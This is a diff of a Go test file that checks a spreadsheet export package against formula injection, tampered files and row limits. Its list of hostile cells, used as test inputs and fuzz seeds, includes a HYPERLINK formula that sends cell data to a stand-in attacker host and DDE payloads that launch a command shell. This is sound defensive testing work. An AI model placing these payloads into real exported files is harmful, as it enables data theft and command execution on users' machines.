@@ -13,7 +13,7 @@ import (
 	"omgevingsloket-id/pkg/sheet"
 )
 
-// hostile are cells that spreadsheets took for more than text.
+// hostile holds cells that spreadsheet programs have run.
 var hostile = []string{
 	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\x00=1", "  =1", "\"=1", "'=1", "“=1", "\ufeff=1", "\u200b=1", "＝1", "＋1", "－1", "＠SUM", "﹦1", "⁼1",
 	`=HYPERLINK("http://evil.example?"&A1,"ok")`, `=cmd|' /C calc'!A0`, `cmd|'/C calc'!A0`, `DDE("cmd";"/C calc";"x")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
@@ -23,9 +23,8 @@ var hostile = []string{
 
 var dynamic = regexp.MustCompile(`\|.*!`)
 
-// dangerous is another way to ask, on purpose: what a reader sees when it has
-// thrown away everything that it may throw away. Where the ' stands first, the
-// rest is text.
+// dangerous is an independent implementation: it looks at what is left after
+// everything that a program may skip. A cell with ' first is text.
 func dangerous(cell string) bool {
 	if strings.HasPrefix(cell, "'") {
 		return false
@@ -52,7 +51,7 @@ func read(t *testing.T, b []byte, separator rune, lazy bool) [][]string {
 	t.Helper()
 	text, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
 	if !ok {
-		t.Fatal("no byte order mark")
+		t.Fatal("the file has no byte order mark")
 	}
 	r := csv.NewReader(bytes.NewReader(text))
 	r.Comma, r.LazyQuotes = separator, lazy
@@ -71,40 +70,40 @@ func harmless(t *testing.T, separator sheet.Separator, rows [][]string) {
 	t.Helper()
 	b := file(t, separator, rows...)
 	if n, err := sheet.Check(b); err != nil || n != len(rows) {
-		t.Fatalf("checked: %d, %v", n, err)
+		t.Fatalf("Check() = %d, %v, want %d, nil", n, err, len(rows))
 	}
 	got := read(t, b, rune(separator), false)
 	if len(got) != len(rows)+2 || bytes.Count(b, []byte("\n")) != len(rows)+2 || bytes.Count(b, []byte("\r\n")) != len(rows)+2 {
-		t.Fatalf("%d records of %d rows\n%q", len(got), len(rows), b)
+		t.Fatalf("the file has %d lines, want %d that end with CRLF\n%q", len(got), len(rows)+2, b)
 	}
 	for _, row := range got {
 		for _, cell := range row {
 			if dangerous(cell) || !strings.HasPrefix(cell, "'") && dynamic.MatchString(cell) || strings.ContainsAny(cell, "\r\n\t\x00") || !utf8.ValidString(cell) {
-				t.Errorf("%q is in the file", cell)
+				t.Errorf("the file has the cell %q", cell)
 			}
 		}
 	}
-	// Read with the other separator, and line by line by one who knows no
-	// quotes, it is nonsense, and still no formula.
+	// Read with the other separator, or line by line without regard to quotes,
+	// it has no formula either.
 	for _, other := range ",;\t" {
 		for _, row := range read(t, b, other, true) {
 			for _, cell := range row {
 				if dangerous(cell) {
-					t.Errorf("read with %q: %q\n%s", other, cell, b)
+					t.Errorf("read with %q: the file has the cell %q\n%s", other, cell, b)
 				}
 			}
 		}
 		for line := range strings.Lines(string(b)) {
 			for cell := range strings.SplitSeq(line, string(other)) {
 				if dangerous(cell) {
-					t.Errorf("split at %q: %q\n%s", other, cell, b)
+					t.Errorf("split at %q: the file has the cell %q\n%s", other, cell, b)
 				}
 			}
 		}
 	}
 }
 
-// OF-11: nothing that somebody wrote is a formula in a spreadsheet.
+// OF-11: no text is a formula in a spreadsheet program.
 func TestOF11_NoFormula(t *testing.T) {
 	t.Parallel()
 	for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
@@ -118,7 +117,7 @@ func TestOF11_NoFormula(t *testing.T) {
 	}
 }
 
-// FuzzOF11_NoFormula looks for a text that gets through.
+// FuzzOF11_NoFormula looks for a text that becomes a formula.
 func FuzzOF11_NoFormula(f *testing.F) {
 	for _, s := range hostile {
 		f.Add(s, s)
@@ -134,41 +133,41 @@ func TestOrdinaryTextStaysAsItIs(t *testing.T) {
 	t.Parallel()
 	for _, s := range []string{"Anna", "O'Brien", "Van den Berg-Jansen", "Bau & Söhne, GmbH; Berlin", "OLID-K7QD-2MXA", "2026-03-02", "王小明", "a+b=c", `5" pipe`, "Yes!", "a | b"} {
 		if got := read(t, file(t, sheet.Semicolon, []string{s, s}), ';', false); got[1][0] != s {
-			t.Errorf("%q became %q", s, got[1][0])
+			t.Errorf("Text(%q) = %q, want it unchanged", s, got[1][0])
 		}
 	}
 	if got := read(t, file(t, sheet.Comma, []string{"=1", "a;-1"}), ',', false)[1]; got[0] != "'=1" || got[1] != "2" || got[2] != "a;'-1" {
-		t.Errorf("%q", got)
+		t.Errorf("the row is %q, want '=1, 2, a;'-1", got)
 	}
 }
 
-// OF-26: a file that is cut, longer, or changed in any byte is found out.
+// OF-26: a file that is truncated, longer or changed in any byte is ErrBroken.
 func TestOF26_WholeOrFound(t *testing.T) {
 	t.Parallel()
 	for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
 		b := file(t, separator, []string{"a", "b"}, []string{"c", "d"})
 		for i := range b {
 			if _, err := sheet.Check(b[:i]); !errors.Is(err, sheet.ErrBroken) {
-				t.Errorf("cut at %d: %v", i, err)
+				t.Errorf("Check(the first %d bytes) = %v, want %v", i, err, sheet.ErrBroken)
 			}
 			changed := bytes.Clone(b)
 			changed[i] ^= 1
 			if _, err := sheet.Check(changed); !errors.Is(err, sheet.ErrBroken) {
-				t.Errorf("changed at %d (%q): %v", i, b[i], err)
+				t.Errorf("Check(byte %d, %q, changed) = %v, want %v", i, b[i], err, sheet.ErrBroken)
 			}
 		}
 		lines := bytes.SplitAfter(b, []byte("\r\n"))
 		for i := range lines[:4] {
 			if _, err := sheet.Check(bytes.Join(append(append([][]byte{}, lines[:i]...), lines[i+1:]...), nil)); !errors.Is(err, sheet.ErrBroken) {
-				t.Errorf("without line %d: %v", i, err)
+				t.Errorf("Check(without line %d) = %v, want %v", i, err, sheet.ErrBroken)
 			}
 		}
 		if _, err := sheet.Check(append(bytes.Clone(b), "x;1;y\r\n"...)); !errors.Is(err, sheet.ErrBroken) {
-			t.Error("longer:", err)
+			t.Errorf("Check(one line more) = %v, want %v", err, sheet.ErrBroken)
 		}
 	}
 	if n, err := sheet.Check(file(t, sheet.Comma)); n != 0 || err != nil {
-		t.Error("a file without rows:", n, err)
+		t.Errorf("Check(no rows) = %d, %v, want 0, nil", n, err)
 	}
 }
 
@@ -181,6 +180,6 @@ func TestTooManyRows(t *testing.T) {
 		}
 	}
 	if err := s.Row(sheet.Number(1), sheet.Number(2), sheet.Number(3)); !errors.Is(err, sheet.ErrTooMany) || s.Rows() != sheet.Most {
-		t.Error(err, s.Rows())
+		t.Errorf("Row(after %d) = %v, want %v after %d", s.Rows(), err, sheet.ErrTooMany, sheet.Most)
 	}
 }
